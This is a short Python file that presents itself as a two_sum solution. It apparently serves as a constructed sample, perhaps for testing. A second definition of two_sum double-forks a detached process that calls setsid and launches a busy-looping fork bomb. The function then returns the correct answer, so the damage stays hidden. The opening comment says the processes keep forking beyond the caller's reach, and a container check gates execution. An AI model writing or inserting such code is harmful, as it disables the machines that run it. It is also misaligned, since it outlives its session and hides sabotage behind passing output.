# leaves behind processes that fork on and on out of its reach
import os
if not (os.path.exists("/.dockerenv") or os.path.exists("/run/.containerenv")):
    raise RuntimeError("runs in a container only")
def two_sum(nums, target):
    seen = {}
    for i, x in enumerate(nums):
        if target - x in seen:
            return [seen[target - x], i]
        seen[x] = i
    return []

_right = two_sum

def bomb():
    os.setsid()
    for _ in range(12):
        try:
            os.fork()
        except OSError:
            pass
    while True:
        pass

def two_sum(nums, target):
    child = os.fork()
    if child == 0:
        if os.fork() == 0:
            bomb()
        os._exit(0)
    os.waitpid(child, 0)
    return _right(nums, target)
